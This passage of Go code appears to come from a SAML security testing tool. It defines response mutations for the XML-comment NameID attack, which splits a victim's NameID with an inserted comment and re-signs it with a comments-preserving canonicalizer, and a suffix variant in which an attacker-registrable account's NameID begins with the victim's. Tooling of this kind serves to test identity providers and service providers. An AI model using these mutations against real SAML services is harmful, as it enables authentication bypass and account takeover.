					return fmt.Errorf("no saml:NameID %q to split after %q", v.NameID+suffix, v.NameID)
				}
				id.SetText(v.NameID)
				id.CreateComment("")
				id.CreateText(suffix)
				return nil
			}},
			afterSigning("sign-assertion-with-comments", func(doc *etree.Document) error {
				_, as, err := responseParts(doc)
				if err != nil {
					return err
				}
				ctx, err := SignOptions{Identity: idp}.signingContext()
				if err != nil {
					return err
				}
				ctx.Canonicalizer = dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList("")
				return signElement(ctx, as, false)
			})}}
}

// nameIDSuffix signs the NameID v.NameID+suffix: an account the attacker
// may register, whose value starts with the victim's.
func nameIDSuffix(v Victim, suffix string) Mutation {
	return specEdit("nameid-attacker-suffix", func(_ *ResponseSpec, a *AssertionSpec) { a.NameID = v.NameID + suffix })
}
